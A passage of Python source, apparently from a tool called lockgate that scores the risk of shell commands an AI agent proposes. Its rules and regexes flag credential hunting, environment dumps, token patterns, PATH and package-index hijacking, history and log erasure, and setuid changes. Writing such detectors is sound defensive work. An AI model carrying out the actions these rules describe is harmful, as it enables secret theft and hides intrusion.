    "PIP_EXTRA_INDEX_URL": (K.SUPPLY_CHAIN, 70, "makes pip also look for packages at {v}"),
    "NPM_CONFIG_REGISTRY": (K.SUPPLY_CHAIN, 70, "makes npm install packages from {v}"),
    "UV_INDEX_URL": (K.SUPPLY_CHAIN, 70, "makes uv install packages from {v}"),
    "PYTHONPATH": (K.PERSISTENCE, 10, "makes Python import modules from {v} first"),
}


_NODE_TUNING = re.compile(
    r"--(max-old-space-size|max-semi-space-size|stack-size|max-http-header-size)=\d+|"
    r"--(enable-source-maps|no-warnings|no-deprecation|trace-warnings|trace-deprecation|"
    r"trace-uncaught|openssl-legacy-provider|experimental-vm-modules|"
    r"heapsnapshot-near-heap-limit=\d+|unhandled-rejections=(strict|warn|throw|none)|"
    r"dns-result-order=(ipv4first|verbatim))"
)


def _tuning_only(value: str) -> bool:
    """NODE_OPTIONS that only tune the runtime (no --require/--import/--loader/--inspect)."""
    parts = value.strip("'\"").split()
    return bool(parts) and all(_NODE_TUNING.fullmatch(p) for p in parts)


def _assignments(an: Analyzer, c: SimpleCommand) -> None:
    for name, w in c.assigns:
        key = name.upper() if name.lower() in ("http_proxy", "https_proxy", "all_proxy") else name
        value = w.best
        if "=" in value and c.keyword != "assign" and value.split("=", 1)[0] == name:
            value = value.split("=", 1)[1]
        if key == "PATH":
            first = value.split(":", 1)[0]
            if first and first not in ("$PATH", "${PATH}"):
                info = an.path(c, first)
                if (
                    info.where in ("tmp", "unknown")
                    or (info.where == "outside" and not info.abs)
                    or first in (".", "")
                    or (
                        info.where == "outside"
                        and info.display.startswith("~") is False
                        and not (info.abs or "").startswith(
                            ("/usr", "/bin", "/opt", "/sbin", "/nix")
                        )
                    )
                ):
                    an.add(
                        K.PRIVILEGE,
                        60,
                        f"puts {q(first)} first on PATH, so programs found "
                        "there replace the usual ones",
                        w.span,
                    )
            continue
        spec = _DANGER_VARS.get(key)
        if spec is None:
            continue
        cat, score, text = spec
        if key in ("HISTSIZE", "HISTFILESIZE") and value not in ("0", ""):
            continue
        if key == "HISTFILE" and value not in ("/dev/null", ""):
            score = 30
        if key == "NODE_OPTIONS" and _tuning_only(value):
            continue  # memory limits and warning switches load no code
        if key == "IFS" and (c.keyword != "assign" or all(ch in " \t\n,:;|=/-" for ch in value)):
            continue  # `while IFS= read -r line` and plain separators are ordinary
        an.add(cat, score, text.format(v=q(value)), w.span)


def _declare(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name
    if name == "unset" or (name == "export" and any(w.value == "-n" for w in c.args)):
        for w in c.args:
            if w.value and w.value.startswith("HIST"):
                an.add(
                    K.OBFUSCATION,
                    60,
                    f"unsets {w.value}, so the shell stops recording history",
                    w.span,
                )


# Programs that take a path without reading what is in it.
_NAMES_ONLY = LISTING | frozenset(
    [
        "echo",
        "printf",
        "[[",
        "mkdir",
        "touch",
        "cd",
        "pushd",
        "realpath",
        "readlink",
        "basename",
        "dirname",
        "which",
        "type",
        "command",
        "export",
        "ln",
        "source",
        ".",
    ]
)


_PROC_ENVIRON = re.compile(r"^/proc/[^/\s]+/environ$")


def _generic(an: Analyzer, c: SimpleCommand) -> None:
    """Secrets named in any argument: whatever the program, it is handed a secret."""
    info = an.ci(c)
    for w in c.args:
        v = w.value
        if w.span in info.seen:
            continue
        if v is None and _PROC_ENVIRON.search(w.text):
            # /proc/$$/environ, /proc/$PID/environ: whichever process, it is its secrets
            read_target(an, c, Word("/proc/self/environ", w.text, w.span))
            continue
        if not v or (v.startswith("-") and "=" not in v):
            continue
        if "=" in v and v.startswith("-"):
            v = v.split("=", 1)[1]
        if "@" in v and v.startswith("@"):
            v = v[1:]
        if not (v.startswith(("/", "~", ".")) or "/" in v or "." in v):
            continue
        p = an.path(c, v)
        if p.secret and p.display not in info.secrets:
            listing = c.name in LISTING
            read_target(an, c, Word(v, v, w.span), listing=listing)
        elif p.private and p.secret is None and (c.name or "") not in _NAMES_ONLY:
            read_target(an, c, Word(v, v, w.span))


_VERBS_OUT = frozenset({"publish", "deploy", "release", "upload", "push", "ship", "unpublish"})
_VERBS_INSTALL = frozenset({"install", "add", "-i", "-iA", "--install", "get"})


def _unknown(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name or "?"
    for w in c.args:
        t = parse_target(w.value or "")
        if t is not None and "://" in (w.value or ""):
            _network_note(an, c, t, f"`{q(name)}` contacts {t.host}", w, score=40)
            break
    # A tool lockgate does not know, used the way publishing and installing tools are used.
    verbs = [w for w in c.args[:3] if w.value is not None][:2]
    out = next((w for w in verbs if w.value in _VERBS_OUT), None)
    inst = next((w for w in verbs if w.value in _VERBS_INSTALL), None)
    if out is not None:
        an.ci(c).network = True
        an.add(K.NETWORK, 45, f"`{q(name)} {out.value}` publishes or deploys something", out.span)
    elif inst is not None and name not in ("git",):
        an.ci(c).network = True
        an.add(K.SUPPLY_CHAIN, 40, f"`{q(name)} {inst.value}` installs something", inst.span)
    an.add(
        K.RESOURCE,
        20,
        f"runs `{q(name)}`, a program lockgate has no rule for (sandboxed)",
        c.argv[0].span,
    )


def _local_program(an: Analyzer, c: SimpleCommand) -> None:
    head = c.argv[0]
    info = an.path(c, head.value or "")
    an.facts.runs.append(info.abs or info.raw)
    if (info.abs or info.raw) in an.facts.downloads:
        an.add(
            K.SUPPLY_CHAIN, 90, f"runs {info.display}, which this action just downloaded", head.span
        )
    elif run_written(an, c, info.abs or info.raw, ""):
        an.add(K.RESOURCE, 5, f"runs {info.display}, which it has just written", head.span)
    elif info.where == "workspace":
        an.add(
            K.RESOURCE, 5, f"runs {info.display}, a program in the workspace (sandboxed)", head.span
        )
    elif info.where == "tmp":
        an.add(K.RESOURCE, 35, f"runs {info.display} from a temporary directory", head.span)
    elif info.where == "unknown":
        an.add(
            K.RESOURCE,
            30,
            f"runs {info.display} from a directory known only at run time",
            head.span,
        )
    else:
        base = info.display.rsplit("/", 1)[-1]
        h = _handler(base)
        if h is not None and h is not _local_program:
            h(an, c)
        else:
            an.add(
                K.RESOURCE, 20, f"runs {info.display}, a program outside the workspace", head.span
            )


def _network_note(
    an: Analyzer, c: SimpleCommand, t: Target, text: str, w: Word, *, score: int
) -> None:
    an.ci(c).network = True
    an.facts.hosts.append(t.host)
    extra = ""
    if t.metadata:
        score = max(score, 80)
        extra = " (the cloud metadata service: it hands out credentials)"
        an.add(K.SECRETS, 80, f"{text}{extra}", w.span)
        return
    if t.local:
        # Inside the sandbox only the command's own servers answer on loopback, but outside
        # it (degraded runs, approvals copied to a shell) this reaches the host's services.
        an.add(K.NETWORK, 36, f"{text} (a service on this machine)", w.span)
        return
    if t.host.startswith("xn--") or ".xn--" in t.host:
        an.add(
            K.OBFUSCATION,
            65,
            f"{t.host} is an internationalised (punycode) name that can imitate a familiar one",
            w.span,
        )
    if t.ip_literal:
        score += 10
        extra = " (a bare IP address, not a named host)"
    elif t.scheme == "http":
        extra = " over plain http"
    if an.network == "off":
        extra += "; the sandbox has no network, so it fails unless you allow it"
        score = max(36, score - 4)
    elif any(domain_match(d, t.host) for d in an.allowed) and not t.ip_literal:
        extra += " (on this session's network allow-list)"
        score = 20
    an.add(K.NETWORK, score, f"{text}{extra}", w.span)


# --------------------------------------------------------------------------- simple families


def h_noop(an: Analyzer, c: SimpleCommand) -> None:
    return


def h_editor(an: Analyzer, c: SimpleCommand) -> None:
    an.add(
        K.RESOURCE,
        36,
        f"opens the interactive editor `{c.name}`: with no terminal it waits forever",
        c.argv[0].span,
    )
    for w in c.args:
        if w.value and not w.value.startswith(("-", "+")):
            write_target(an, c, w, f"opens in `{c.name}` (and may change)")


_GREPS = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ack"})
_SECRET_WORDS = re.compile(
    r"pass(wd|word)?|secret|token|api.?key|credential|private.?key|BEGIN .*PRIVATE|"
    r"AKIA|ghp_|xox[abp]-|sk-[a-z]",
    re.I,
)


def h_read_only(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name
    if name in ("printenv", "env") and not [
        w for w in c.args if not (w.value or "-").startswith("-")
    ]:
        an.ci(c).env_dump = True
        down = an.script.downstream(c.index)
        filt = an.script.commands[down[0]] if down else None
        if (
            filt is not None
            and filt.name in _GREPS
            and not any(
                (w.value or "").startswith("-") and "v" in (w.value or "") for w in filt.args
            )
            and not any(_SECRET_WORDS.search(w.value or "") for w in filt.args)
        ):
            # Filtered down to the variables a plain pattern names (a secret-looking pattern
            # is judged at the grep).
            an.add(K.SECRETS, 15, "prints the environment variables a pattern picks", c.span)
            return
        an.add(
            K.SECRETS,
            36,
            "prints every environment variable: tokens kept there would reach the agent "
            "and its model provider",
            c.span,
        )
        return
    if name == "printenv":
        for w in c.args:
            if re.search(r"TOKEN|SECRET|KEY|PASS|CRED|AUTH", w.value or "", re.I):
                an.ci(c).env_dump = True
                an.add(
                    K.SECRETS,
                    65,
                    f"prints {q(w)}, which looks like a secret: its value "
                    "would reach the agent and its model provider",
                    w.span,
                )
        return
    if name in _GREPS and any(_SECRET_WORDS.search(w.value or "") for w in c.args):
        outside = [
            w
            for w in c.args
            if w.value and w.value.startswith(("~", "/")) and an.path(c, w.value).where == "outside"
        ]
        if outside:
            an.ci(c).secrets.append(an.path(c, outside[0].value or "").display)
            an.add(K.SECRETS, 65, f"searches {q(outside[0])} for passwords or keys", c.span)
        else:
            an.add(K.SECRETS, 15, "searches the workspace for passwords or keys", c.span)
    if name in ("set", "export", "declare", "typeset") and (
        not c.args or all((w.value or "") in ("-p", "-x") for w in c.args)
    ):
        an.ci(c).env_dump = True
        return
    if name == "xxd" and any(
        w.value in ("-r", "-revert") or (w.value or "").startswith("-r") for w in c.args
    ):
        an.ci(c).decoder = True
    if name in (
        "cat",
        "tac",
        "head",
        "tail",
        "less",
        "more",
        "strings",
        "xxd",
        "od",
        "hexdump",
        "grep",
        "rg",
        "base32",
        "zcat",
        "bat",
        "nl",
    ):
        an.ci(c).reads_data = True
    if name == "tr" and len(c.args) >= 2:
        a, b = (c.args[0].value or ""), (c.args[1].value or "")
        if "N-Z" in b or "n-z" in b or ("A-Z" in a and "N" in b):
            an.ci(c).decoder = True
    if name == "sort":
        opts, _pos = split_args(c.args, frozenset({"-o", "--output", "-k", "-t", "-S", "-T"}))
        out = val(opts, "-o", "--output")
        if out is not None:
            write_target(an, c, out)
    if name == "history" and any(
        (w.value or "").startswith(("-c", "-w", "-d", "-a")) for w in c.args
    ):
        an.add(K.OBFUSCATION, 60, "clears or rewrites the shell history, hiding what ran", c.span)
    if name in ("source", ".") and c.args:
        w = c.args[0]
        if w.procsub:
            return  # judged in the data-flow pass
        if w.value:
            info = an.path(c, w.value)
            if (info.abs or info.raw) in an.facts.downloads:
                an.add(
                    K.SUPPLY_CHAIN,
                    90,
                    f"runs {info.display}, which this action just downloaded, in the current shell",
                    w.span,
                )
            elif run_written(an, c, info.abs or info.raw, "source"):
                pass  # judged by what the action wrote there
            elif info.where not in ("workspace",):
                an.add(K.RESOURCE, 10, f"runs {info.display} in the current shell", w.span)
    if name == "trap" and c.args and c.args[0].value:
        an.fragment(c.args[0].value, c.args[0].exact, c.args[0].span, c, prefix="on a signal: ")
    if name == "alias":
        for w in c.args:
            if w.value and "=" in w.value:
                an.add(K.PERSISTENCE, 15, f"defines the alias {q(w)} for this shell", w.span)
    if name in ("journalctl",) and any(
        (w.value or "").startswith(("--vacuum", "--rotate")) for w in c.args
    ):
        an.add(K.OBFUSCATION, 65, "deletes system logs, erasing the record of what ran", c.span)
    if (
        name == "ip"
        and len(c.args) >= 2
        and c.args[1].value in ("add", "del", "set", "flush", "change", "replace")
    ):
        an.add(K.PRIVILEGE, 65, "changes the machine's network configuration", c.span)
    if name == "mount" and c.args:
        h_kernel(an, c)


def h_build(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name or ""
    if name in (
        "make",
        "gmake",
        "just",
        "task",
        "invoke",
        "rake",
        "mvn",
        "mvnw",
        "gradle",
        "gradlew",
        "ant",
        "sbt",
        "nx",
        "turbo",
        "doit",
    ):
        dry = name in ("make", "gmake") and any(
            (w.value or "") in ("-n", "--dry-run", "--just-print", "--recon") for w in c.args
        )
        if dry:
            an.add(K.RESOURCE, 5, f"`{name}` only prints what it would run", c.argv[0].span)
            return
        for w in c.args:
            v = w.value or ""
            if not v.startswith("-") and "=" not in v and PUBLISH_WORDS.match(v):
                an.add(
                    K.NETWORK,
                    40,
                    f"runs the `{v}` target, which usually publishes or "
                    "changes something outside the workspace",
                    w.span,
                )
        an.add(K.RESOURCE, 5, f"runs `{name}` on the project (sandboxed)", c.argv[0].span)
        return
    if name in ("mkdocs", "hugo", "jekyll", "zola") and any(
        w.value in ("serve", "server", "gh-deploy", "deploy") for w in c.args
    ):
        dep = any(w.value in ("gh-deploy", "deploy") for w in c.args)
        an.add(
            K.NETWORK,
            45 if dep else 35,
            "publishes the site" if dep else "starts a local web server that keeps running",
            c.span,
        )
        return
    if name == "pre-commit" and any(w.value in ("install", "autoupdate") for w in c.args):
        an.add(K.PERSISTENCE, 45, "installs pre-commit's git hooks / updates hook sources", c.span)
        return
    if name in ("dotnet",) and c.args and c.args[0].value in ("add", "restore", "tool"):
        an.add(K.SUPPLY_CHAIN, 40, "installs NuGet packages", c.span)
        return
    if name in ("tsx", "ts-node") and c.args:
        an.facts.runs.append(c.args[0].best)
    for w in c.args:
        if w.value in ("--fix", "-w", "--write", "--in-place", "-i"):
            an.add(K.DESTRUCTIVE, 3, f"`{name}` rewrites files in place", w.span)
            break
    an.add(K.RESOURCE, 5, f"runs `{name}` on the project (sandboxed)", c.argv[0].span)


def h_cd(an: Analyzer, c: SimpleCommand) -> None:
    args = [w for w in c.args if not (w.value or "").startswith("-")]
    if not args:
        return
    w = args[0]
    if w.value is None:
        an.add(
            K.OUTSIDE_WORKSPACE,
            20,
            f"changes to a directory known only at run time ({q(w.text)})",
            w.span,
        )
        return
    info = an.path(c, w.value)
    if info.where in ("outside",):
        an.add(K.OUTSIDE_WORKSPACE, 10, f"changes to {info.display}, outside the workspace", w.span)


# --------------------------------------------------------------------------- file operations


def h_rm(an: Analyzer, c: SimpleCommand) -> None:
    opts, pos = split_args(c.args)
    recursive = has(opts, "-r", "-R", "--recursive")
    if has(opts, "--no-preserve-root"):
        an.add(K.DESTRUCTIVE, 95, "turns off rm's protection for the root directory", c.span)
    if not pos and c.stdin_args:
        an.add(K.DESTRUCTIVE, 45, "deletes paths read from the pipe", c.span)
    for w in pos:
        delete_target(an, c, w, recursive=recursive)
    if c.stdin_args and pos:
        an.add(K.DESTRUCTIVE, 45, "deletes paths read from the pipe", c.span)


def h_rmdir(an: Analyzer, c: SimpleCommand) -> None:
    _opts, pos = split_args(c.args)
    for w in pos:
        info = an.path(c, w.value or "")
        if w.value is not None and info.where in ("workspace", "tmp"):
            an.add(K.DESTRUCTIVE, 10, f"removes the empty directory {info.display}", w.span)
        else:
            delete_target(an, c, w, recursive=False)


def h_shred(an: Analyzer, c: SimpleCommand) -> None:
    _opts, pos = split_args(
        c.args, frozenset({"-n", "-s", "--iterations", "--size", "--random-source"})
    )
    for w in pos:
        delete_target(an, c, w, recursive=False, verb="irrecoverably overwrites")
        info = an.path(c, w.value or "")
        if info.where == "workspace":
            an.add(K.DESTRUCTIVE, 45, f"shreds {info.display}: it cannot be recovered", w.span)


def h_unlink(an: Analyzer, c: SimpleCommand) -> None:
    for w in c.args:
        delete_target(an, c, w, recursive=False)


def h_touch(an: Analyzer, c: SimpleCommand) -> None:
    _opts, pos = split_args(
        c.args,
        frozenset({"-d", "-t", "-r", "--date", "--reference", "-m", "--mode", "-s", "--size"}),
    )
    verb = {
        "touch": "creates",
        "mkdir": "creates the directory",
        "truncate": "truncates",
        "dos2unix": "rewrites",
        "unix2dos": "rewrites",
        "mktemp": "creates",
        "mkfifo": "creates",
        "mknod": "creates",
    }.get(c.name or "", "writes")
    for w in pos:
        write_target(an, c, w, verb)
    if c.name == "truncate":
        for w in pos:
            if w.value and an.path(c, w.value).where == "workspace":
                an.add(K.DESTRUCTIVE, 36, f"empties or cuts {q(w)}, losing its contents", w.span)


def h_copy(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name
    opts, pos = split_args(
        c.args,
        frozenset(
            {
                "-t",
                "--target-directory",
                "-S",
                "--suffix",
                "-m",
                "--mode",
                "-o",
                "--owner",
                "-g",
                "--group",
                "--backup",
            }
        ),
    )
    dest = val(opts, "-t", "--target-directory")
    sources = pos
    if dest is None and len(pos) >= 2:
        dest = pos[-1]
        sources = pos[:-1]
    verb = {"mv": "moves", "ln": "links", "install": "installs", "cp": "copies"}.get(
        name or "", "copies"
    )
    for s in sources:
        read_target(an, c, s)
        if name == "mv" and s.value is not None:
            info = an.path(c, s.value)
            if (
                info.where not in ("workspace", "tmp", "device")
                or info.broad
                or (info.protected and info.protected[1] >= 60)
            ):
                delete_target(an, c, s, recursive=True, verb="moves away")
            elif info.where == "workspace" and dest is not None and dest.value is not None:
                to = an.path(c, dest.value)
                if to.where != "workspace":
                    an.add(
                        K.DESTRUCTIVE,
                        40,
                        f"moves {info.display} out of the workspace (to {to.display})",
                        s.span,
                    )
    if dest is not None:
        if name == "ln":
            # The link itself is written; its target is what a reader later reaches.
            for s in sources:
                if s.value:
                    si = an.path(c, s.value)
                    if si.secret or (si.where == "outside" and si.broad):
                        an.add(
                            K.SECRETS if si.secret else K.OUTSIDE_WORKSPACE,
                            55,
                            f"links {si.display} into reach",
                            s.span,
                        )
        write_target(an, c, dest, f"{verb} into" if name != "ln" else "creates the link")


def h_tee(an: Analyzer, c: SimpleCommand) -> None:
    opts, pos = split_args(c.args)
    verb = "appends to" if has(opts, "-a", "--append") else "writes"
    for w in pos:
        write_target(an, c, w, verb)


def h_sed(an: Analyzer, c: SimpleCommand) -> None:
    opts, pos = split_args(
        c.args, frozenset({"-e", "--expression", "-f", "--file", "-l", "--line-length", "-s"})
    )
    inplace = any(k.startswith("-i") or k.startswith("--in-place") for k in opts) or any(
        (w.value or "").startswith("-i") for w in c.args
    )
    scripts = [w for k, w in opts.items() if k in ("-e", "--expression") and w is not None]
    files = pos
    if not scripts and pos:
        scripts = [pos[0]]
        files = pos[1:]
    for s in scripts:
        code = s.value or ""
        if _sed_executes(code):
            an.add(K.OBFUSCATION, 60, "the sed script runs shell commands (GNU `e`)", s.span)
        m = re.search(r"(?:^|[;\n}]|\s)w\s+(\S+)", code)
        if m:
            write_target(an, c, Word(m.group(1), m.group(1), s.span))
    for f in files:
        if inplace:
            write_target(an, c, f, "edits")
        else:
            read_target(an, c, f)


def _sed_executes(code: str) -> bool:
    """GNU sed's `e` command, or an `s///e` substitution: both run shell commands. Read with a
    small scanner (a regex with back-references backtracks badly on long scripts)."""
    i = 0
    n = len(code)
    while i < n:
        while i < n and code[i] in " \t\n;{}!":
            i += 1
        # an address: numbers, $, /regex/, ranges
        while i < n and (code[i].isdigit() or code[i] in "$,~+"):
            i += 1
        if i < n and code[i] == "/":
            j = code.find("/", i + 1)
            i = n if j < 0 else j + 1
            continue
        if i >= n:
            break
        ch = code[i]
        if ch == "e" and (i + 1 >= n or code[i + 1] in " \t\n;}"):
            return True
        if ch in "sy" and i + 1 < n:
            delim = code[i + 1]
            j = i + 2
            seen = 0
            while j < n and seen < 2:
                if code[j] == "\\":
                    j += 2
                    continue
                if code[j] == delim:
                    seen += 1
                j += 1
            k = j
            while k < n and code[k] not in ";\n}":
                k += 1
            if ch == "s" and "e" in code[j:k].split(" ", 1)[0]:
                return True
            i = k
            continue
        while i < n and code[i] not in ";\n":
            i += 1
    return False


def h_dd(an: Analyzer, c: SimpleCommand) -> None:
    for w in c.args:
        v = w.value or ""
        if v.startswith("of="):
            write_target(an, c, Word(v[3:], v[3:], w.span), "overwrites")
        elif v.startswith("if="):
            read_target(an, c, Word(v[3:], v[3:], w.span))
            an.ci(c).reads_data = True


def h_chmod(an: Analyzer, c: SimpleCommand) -> None:
    args = [w for w in c.args]
    recursive = any(
        (w.value or "") in ("-R", "--recursive")
        or re.fullmatch(r"-[a-zA-Z]*R[a-zA-Z]*", w.value or "")
        for w in args
    )
    pos = [
        w
        for w in args
        if not (w.value or "").startswith("-") or re.match(r"^-[rwxXst]+$", w.value or "")
    ]
    if c.name in ("chown", "chgrp"):
        targets = pos[1:]
        for w in targets:
            if w.value is None:
                continue
            info = an.path(c, w.value)
            if info.where == "outside":
                an.add(
                    K.PRIVILEGE,
                    90 if info.broad and recursive else 70,
                    f"changes the owner of {info.display}"
                    + (" and everything under it" if recursive else "")
                    + ", outside the workspace",
                    w.span,
                )
            else:
                an.add(K.PRIVILEGE, 40, f"changes the owner of {info.display}", w.span)
        return
    if not pos:
        return
    mode = pos[0].value or ""
    targets = pos[1:]
    setid = bool(re.search(r"[ugoa]*[+=][rwxXt]*s", mode)) or bool(
        re.fullmatch(r"[2467]\d{3}", mode)
    )
    world = (
        (
            bool(re.fullmatch(r"\d*7[0-7]?7|\d*[2367]", mode))
            and len(mode) >= 3
            and mode[-1] in "2367"
        )
        or "o+w" in mode
        or "a+w" in mode
        or mode in ("777", "0777", "666", "0666")
    )
    addx = (
        "+x" in mode
        or bool(re.search(r"[+=][rw]*x", mode))
        or (bool(re.fullmatch(r"0?[0-7]*[1357][0-7]{0,2}", mode)) and len(mode.lstrip("0")) >= 3)
    )
    for w in targets:
        if w.value is None:
            an.add(
                K.PRIVILEGE,
                40,
                f"changes permissions on a path known only at run time ({q(w.text)})",
                w.span,
            )
            continue
        info = an.path(c, w.value)
        if setid:
            an.add(
                K.PRIVILEGE,
                90,
                f"sets the setuid/setgid bit on {info.display}: it would run "
                "with its owner's privileges for anyone",
                w.span,
            )
            continue
        if info.where in ("outside",):
            score = 95 if info.broad and recursive else (80 if info.broad or world else 65)
            an.add(
                K.PRIVILEGE,
                score,
                f"changes permissions of {info.display}"
                + (" and everything under it" if recursive else "")
                + (" so anyone can write it" if world else "")
                + ", outside the workspace",
                w.span,
            )
        elif info.where in ("tmp", "device"):
            an.add(K.PRIVILEGE, 15, f"changes permissions of {info.display}", w.span)
        elif info.where == "unknown":
            an.add(
                K.PRIVILEGE,
                40,
                f"changes permissions of {info.display} in an unknown directory",
                w.span,
            )
        else:
            if info.protected and info.protected[1] >= 60:
                an.add(
                    K.PERSISTENCE,
                    info.protected[1],
                    f"makes {info.display} executable: {info.protected[0]}",
                    w.span,
                )
            elif world:
                an.add(K.PRIVILEGE, 40, f"makes {info.display} writable by anyone", w.span)
            elif addx:
                an.add(K.PRIVILEGE, 35, f"makes {info.display} executable", w.span)
            else:
                an.add(K.PRIVILEGE, 15, f"changes permissions of {info.display}", w.span)


def h_tar(an: Analyzer, c: SimpleCommand) -> None:
    opts, pos = split_args(
        c.args,
        frozenset(
            {
                "-f",
                "--file",
                "-C",
                "--directory",
                "-T",
                "--files-from",
                "-X",
                "--exclude-from",
                "--exclude",
                "-b",
                "-N",
                "--use-compress-program",
                "-I",
                "--to-command",
                "--checkpoint-action",
                "--transform",
                "--owner",
                "--group",
                "--mode",
            }
        ),
    )
    first = c.args[0].value if c.args else ""
    letters = (first or "") if (first and not first.startswith("-")) else ""
    extract = has(opts, "-x", "--extract", "--get") or "x" in letters
    create = has(opts, "-c", "--create", "-r", "--append", "-u") or "c" in letters or "r" in letters
    if letters:
        pos = pos[1:]
        if "f" in letters and pos:
            opts["-f"] = pos[0]
            pos = pos[1:]
    archive = val(opts, "-f", "--file")
    for k in ("--to-command", "--checkpoint-action", "--use-compress-program", "-I"):
        w = opts.get(k)
        if w is not None and w.value:
            an.add(K.OBFUSCATION, 55, f"tar runs the program {q(w)} while it works", w.span)
            if k == "--checkpoint-action" and "exec=" in (w.value or ""):
                code = w.value.split("exec=", 1)[1]
                an.fragment(code, None, w.span, c, prefix="tar checkpoint: ")
    if extract:
        dest = val(opts, "-C", "--directory")
        if dest is not None:
            write_target(an, c, dest, "extracts files into")
        else:
            an.add(K.DESTRUCTIVE, 3, "extracts an archive into the current directory", c.span)
        if archive is not None:
            read_target(an, c, archive)
    elif create:
        an.ci(c).reads_data = True
        for w in pos:
            read_target(an, c, w)
        if archive is not None and archive.value != "-":
            write_target(an, c, archive)


def h_zip(an: Analyzer, c: SimpleCommand) -> None:
    opts, pos = split_args(c.args, frozenset({"-d", "-x", "-i", "-P", "--password", "-O"}))
    if c.name == "unzip":
        dest = val(opts, "-d")
        if dest is not None:
            write_target(an, c, dest, "extracts files into")
        for w in pos[:1]:
            read_target(an, c, w)
        return
    an.ci(c).reads_data = True
    if pos:
        if pos[0].value != "-":
            write_target(an, c, pos[0])
        for w in pos[1:]:
            read_target(an, c, w)


def h_find(an: Analyzer, c: SimpleCommand) -> None:
    from app.risk.wrappers import find_roots

    roots = find_roots(c.argv) or []
    vals = [w.value for w in c.args]
    if "-delete" in vals:
        targets = roots or [Word(".", ".", c.argv[0].span)]
        filtered = any(
            v
            in (
                "-name",
                "-iname",
                "-path",
                "-ipath",
                "-regex",
                "-iregex",
                "-newer",
                "-mtime",
                "-mmin",
                "-size",
                "-empty",
                "-user",
                "-perm",
                "-wholename",
            )
            for v in vals
        )
        pattern = next(
            (
                c.args[k + 1].best
                for k, v in enumerate(vals[:-1])
                if v in ("-name", "-iname", "-path", "-ipath", "-regex")
            ),
            "",
        )
        for r in targets:
            info = an.path(c, r.value or ".") if r.value is not None else None
            if filtered and info is not None and info.where in ("workspace", "tmp"):
                an.ci(c).seen.add(r.span)
                an.add(
                    K.DESTRUCTIVE,
                    40,
                    f"deletes files matching {short(pattern or 'its tests')} under {info.display}",
                    r.span,
                )
            else:
                delete_target(an, c, r, recursive=True, verb="deletes every file it finds under")
    if not any(v in ("-exec", "-execdir", "-ok", "-okdir", "-delete") for v in vals):
        starts: list[PathInfo] = []
        for w in c.args:
            if (w.value or "-").startswith(("-", "(", "!")):
                break
            starts.append(an.path(c, w.value or "."))
        from_outside = any(r.where not in ("workspace", "tmp") for r in starts)
        for pattern in find_matches(c.argv):
            p = an.path(c, pattern)
            if p.secret and (p.where == "outside" or from_outside):
                an.ci(c).seen.update(w.span for w in c.args)
                an.add(
                    K.SECRETS,
                    60,
                    f"hunts for {p.secret.split('(')[0].strip()} files across "
                    f"{p.display.split('/**')[0] or '/'}",
                    c.span,
                )
    for k, w in enumerate(c.args):
        if w.value in ("-fprint", "-fprint0", "-fprintf", "-fls") and k + 1 < len(c.args):
            write_target(an, c, c.args[k + 1])


# --------------------------------------------------------------------------- network


_CURL_VALUES = frozenset(
    {
        "-o",
        "--output",
        "-d",
        "--data",
        "--data-binary",
        "--data-raw",
        "--data-urlencode",
        "--data-ascii",
        "-F",
        "--form",
        "--form-string",
        "-T",
        "--upload-file",
        "-X",
        "--request",
        "-H",
        "--header",
        "-u",
        "--user",
        "-A",
        "--user-agent",
        "-e",
        "--referer",
        "-x",
        "--proxy",
        "-K",
        "--config",
        "-b",
        "--cookie",
        "-c",
        "--cookie-jar",
        "--json",
        "--output-dir",
        "-m",
        "--max-time",
        "--connect-timeout",
        "-w",
        "--write-out",
        "-r",
        "--range",
        "--retry",
        "-E",
        "--cert",
        "--key",
        "--cacert",
        "--resolve",
        "--connect-to",
        "--url",
        "-U",
        "--proxy-user",
        "--interface",
        "--limit-rate",
        "-y",
        "-Y",
        "-z",
        "-C",
        "--continue-at",
        "--dns-servers",
        "--doh-url",
        "-Q",
        "--quote",
        "--mail-from",
        "--mail-rcpt",
        "--oauth2-bearer",
        "--variable",
        "--expand-data",
        "--expand-url",
        "--unix-socket",
        "--abstract-unix-socket",
        "-D",
        "--dump-header",
        "--trace",
        "--trace-ascii",
        "--stderr",
        "--max-filesize",
        "--retry-delay",
        "--retry-max-time",
        "-P",
        "--ftp-port",
        "--hostpubmd5",
        "--pubkey",
        "--netrc-file",
        "--happy-eyeballs-timeout-ms",
        "--local-port",
        "--socks5",
        "--socks5-hostname",
        "--socks4",
        "--preproxy",
        "--keepalive-time",
    }
)
_WGET_VALUES = frozenset(
    {
        "-O",
        "--output-document",
        "-o",
        "--output-file",
        "-a",
        "--append-output",
        "-P",
        "--directory-prefix",
        "--post-data",
        "--post-file",
        "--body-data",
        "--body-file",
        "--method",
        "-U",
        "--user-agent",
        "--header",
        "-e",
        "--execute",
        "-i",
        "--input-file",
        "-t",
        "--tries",
        "-T",
        "--timeout",
        "--user",
        "--password",
        "--http-user",
        "--http-password",
        "-l",
        "--level",
        "-A",
        "-R",
        "--accept",
        "--reject",
        "-D",
        "--domains",
        "--load-cookies",
        "--save-cookies",
        "-B",
        "--base",
        "--bind-address",
        "-w",
        "--wait",
        "-Q",
        "--quota",
        "--limit-rate",
        "--ca-certificate",
        "--certificate",
        "--private-key",
        "--referer",
        "--config",
    }
)


def h_download(an: Analyzer, c: SimpleCommand) -> None:
    name = c.name or ""
    info = an.ci(c)
    info.network = True
    if name in ("wget",):
        opts, pos = split_args(c.args, _WGET_VALUES)
    else:
        opts, pos = split_args(c.args, _CURL_VALUES)
    if not pos and has(opts, "--version", "-V", "--help", "-h", "--manual", "-M"):
        info.network = False
        return
    urls: list[Word] = []
    for w in pos:
        if (
            name in ("http", "https", "httpie", "xh")
            and w.value
            and (re.match(r"^[A-Z]+$", w.value) or re.match(r"^[\w.-]+(:=?|==|@)", w.value))
        ):
            if re.match(r"^[\w.-]+@", w.value or ""):
                f = w.value.split("@", 1)[1]
                read_target(an, c, Word(f, f, w.span))
                info.sender_label = "a file"
            continue
        if parse_target(w.value or "") is not None or (
            w.value and not w.value.startswith("-") and not urls
        ):
            urls.append(w)  # curl and wget take any bare word as a URL
    u = val(opts, "--url")
    if u is not None:
        urls.append(u)
    target = None
    for w in urls:
        target = parse_target(w.value or "")
        if target is not None:
            break
    if target is None and urls and urls[0].value:
